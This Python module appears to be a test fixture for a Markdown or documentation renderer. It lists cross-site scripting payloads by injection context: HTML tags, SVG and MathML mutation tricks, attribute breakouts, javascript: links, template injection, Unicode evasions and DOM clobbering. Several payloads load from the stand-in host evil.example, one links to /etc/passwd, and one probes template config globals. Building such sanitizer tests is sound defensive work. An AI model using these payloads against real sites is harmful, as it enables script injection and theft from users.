"""What somebody would write into content to make a reader's browser do their bidding, by the place it is made for.

Each calls `alert`, or loads from `evil.example`, or takes the name of something scripts look for; whoever tries them
listens for all three.
"""

__all__ = ["BY_PLACE", "PAYLOADS"]

TEXT = r"""
<script>alert(1)</script>
<SCRIPT>alert(2)</SCRIPT>
<script src=//evil.example/x.js></script>
<scr<script>ipt>alert(3)</scr</script>ipt>
<script/x>alert(4)</script>
<script type="text/javascript">/*<![CDATA[*/alert(5)/*]]>*/</script>
<script type=module>alert(6)</script>
<script	>alert(7)</script	>
<img src=x onerror=alert(8)>
<img src=x onerror=alert`9`>
<img/src/onerror=alert(10)>
<IMG SRC="x" OnErRoR="alert(11)">
<img src=x:x onerror=alert(12)//
<img src onerror=top.alert(13)>
<img srcset=x onerror=alert(14)>
<image src=x onerror=alert(15)>
<body onload=alert(16)>
<input autofocus onfocus=alert(17)>
<select autofocus onfocus=alert(18)></select>
<textarea autofocus onfocus=alert(19)></textarea>
<video src=x onerror=alert(20)></video>
<video><source onerror=alert(21)></video>
<audio src=x onerror=alert(22)></audio>
<details open ontoggle=alert(23)>x</details>
<iframe src=javascript:alert(24)></iframe>
<iframe srcdoc="<script>parent.alert(25)</script>"></iframe>
<iframe onload=alert(26)></iframe>
<object data=javascript:alert(27)></object>
<object data=//evil.example/x.swf></object>
<embed src=javascript:alert(28)>
<embed src=//evil.example/x>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=preload as=script href=//evil.example/x.js onload=alert(29)>
<meta http-equiv=refresh content="0;url=javascript:alert(30)">
<meta http-equiv=refresh content="0;url=//evil.example/">
<base href=//evil.example/>
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(//evil.example/x.png)}</style>
<style onload=alert(31)></style>
<div style="background:url(//evil.example/y.png)">x</div>
<form action=javascript:alert(32)><button autofocus onfocus=alert(33)>x</button></form>
<marquee onstart=alert(34)>x</marquee>
<div onanimationstart=alert(35) style="animation:x 1s">x</div>
<p onpointerenter=alert(36) style="position:fixed;inset:0">x</p>
<custom-thing onfocus=alert(37) tabindex=1 autofocus>x</custom-thing>
<template><script>alert(38)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(39)>"></noscript>
<xmp><p title="</xmp><img src=x onerror=alert(40)>"></xmp>
<title><p title="</title><img src=x onerror=alert(41)>"></title>
<textarea><p title="</textarea><img src=x onerror=alert(42)>"></textarea>
<!--><img src=x onerror=alert(43)>-->
<!-- --!><img src=x onerror=alert(44)>
<![CDATA[><img src=x onerror=alert(45)>]]>
<?xml version="1.0"?><img src=x onerror=alert(46)>
</title></head></script></style><img src=x onerror=alert(47)>
<<script>alert(48)//<</script>
<a href="x" onclick=alert(49) onmouseover=alert(50) id=x autofocus tabindex=1 onfocus=alert(51)>x</a>
<img src=x onerror="&#97;lert(52)">
<img src=x onerror="al\u0065rt(53)">
"""

SVG = r"""
<svg onload=alert(60)>
<svg><script>alert(61)</script></svg>
<svg><script href=data:,alert(62)></script></svg>
<svg><script xlink:href=//evil.example/x.js></script></svg>
<svg><animate onbegin=alert(63) attributeName=x dur=1s></svg>
<svg><set onbegin=alert(64) attributeName=x to=y></svg>
<svg><a xlink:href=javascript:alert(65)><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(66) /><text y=20>x</text></a></svg>
<svg><foreignObject><img src=x onerror=alert(67)></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(68)'/></svg>#x"/></svg>
<svg><image href=x onerror=alert(69)></svg>
<svg><style><img src=x onerror=alert(70)></style></svg>
<svg></p><style><a title="</style><img src=x onerror=alert(71)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(72)&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(73)></annotation-xml></math>
<math href=javascript:alert(74)>x</math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(75) src>">
"""

ATTRIBUTE = r"""
" onmouseover=alert(80) x="
" autofocus onfocus=alert(81) tabindex=1 x="
"><img src=x onerror=alert(82)>
'><img src=x onerror=alert(83)>
' onfocus='alert(84)' autofocus tabindex='1
"/><script>alert(85)</script>
&quot;><img src=x onerror=alert(86)>
&#34; onmouseover=alert(87) &#34;
&lt;img src=x onerror=alert(88)&gt;
&amp;lt;script&amp;gt;alert(89)&amp;lt;/script&amp;gt;
` onmouseover=alert(90) `
"-alert(91)-"
'-alert(92)-'
\";alert(93)//
</script><script>alert(94)</script>
</template><img src=x onerror=alert(95)>
]]><img src=x onerror=alert(96)>
--><img src=x onerror=alert(97)>
"}]});alert(98);//
"""

LINK = r"""
[x](javascript:alert(100))
[x](JaVaScRiPt:alert(101))
[x](java&#x09;script:alert(102))
[x](&#106;avascript:alert(103))
[x](javascript&colon;alert(104))
[x](<javascript:alert(105)>)
[x]( javascript:alert(106))
[x](vbscript:msgbox(107))
[x](data:text/html,<script>alert(108)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMDkpPC9zY3JpcHQ+)
[x](//evil.example/ "title\" onmouseover=alert(110) x=\"")
[x](https://evil.example/" onmouseover=alert(111) x=")
[x](x "\" autofocus onfocus=alert(112) tabindex=1 \"")
[x](file:///etc/passwd)
[x](blob:https://evil.example/113)
[x](\x01javascript:alert(114))
[x][j] [j]: javascript:alert(115)
![x](javascript:alert(116))
![x](x"onerror="alert(117))
![x](//evil.example/pixel.png)
![" onerror="alert(118)](x)
<javascript:alert(119)>
<https://evil.example/"onmouseover="alert(120)>
[<img src=x onerror=alert(121)>](x)
[`<img src=x onerror=alert(122)>`](javascript:alert(123))
[a](javascript://%0aalert(124))
[a](javascript:// "x")
"""

MARKDOWN = r"""
`<img src=x onerror=alert(130)>`
```<script>alert(131)</script>```
~~~html onload=alert(132)
# <img src=x onerror=alert(133)>
## x {#__config onclick=alert(134)}
x {: onclick=alert(135) style="background:url(//evil.example/a)" }
| <img src=x onerror=alert(136)> | b | |---|---| | <script>alert(137)</script> | d |
> <svg onload=alert(138)>
* <iframe src=javascript:alert(139)>
[[sample-case" onmouseover="alert(140)]]
[[<img src=x onerror=alert(141)>]]
*[HTML]: <script>alert(142)</script>
--8<-- "mkdocs.yml"
::: pitchkit.build
!!! note "<img src=x onerror=alert(143)>"
$$\unicode{<img src=x onerror=alert(144)>}$$
:smile"onerror=alert(145): <p data-pk="sample-case">x</p>
pk://"onmouseover="alert(146)
<span data-pk="sample-case"></span><a href="pk://x" onclick=alert(147)>x</a>
"""

TEMPLATE = r"""
{{ 7*7 }}{{ config.__class__.__init__.__globals__ }}
{% raw %}<script>alert(150)</script>{% endraw %}
{{ '<img src=x onerror=alert(151)>' | safe }}
${alert(152)}
#{alert(153)}
<%= alert(154) %>
{{constructor.constructor('alert(155)')()}}
[[${alert(156)}]]
%3Cimg%20src%3Dx%20onerror%3Dalert(157)%3E
\u003cimg src=x onerror=alert(158)\u003e
\x3cimg src=x onerror=alert(159)\x3e
"""

UNICODE = """
＜script＞alert(160)＜/script＞
‹img src=x onerror=alert(161)›
<ſcript>alert(162)</ſcript>
<img src=x onerror\u2003=alert(163)>
<img\u3000src=x\u3000onerror=alert(164)>
ʺ><img src=x onerror=alert(165)>
+ADw-script+AD4-alert(166)+ADw-/script+AD4-
<ｉmg src=x onerror=alert(167)>
<img src=x onerror=ａlert(168)>
"""

CLOBBERING = r"""
<form id=__config><input name=textContent value='{"base":"//evil.example"}'></form>
<a id=pitchkit></a><a id=pitchkit name=url href=//evil.example/>x</a>
<img name=pitchkit><img name=__md_get><form name=document$></form>
<meta name=pitchkit content=//evil.example/>
<p id=__search></p><label for=__drawer>x</label>
"""

BY_PLACE = {
    name: [line for line in text.strip("\n").splitlines() if line.strip()]
    for name, text in {
        "text": TEXT, "svg": SVG, "attribute": ATTRIBUTE, "link": LINK, "markdown": MARKDOWN, "template": TEMPLATE,
        "unicode": UNICODE, "clobbering": CLOBBERING,
    }.items()
}  # fmt: skip
PAYLOADS = [line for lines in BY_PLACE.values() for line in lines]
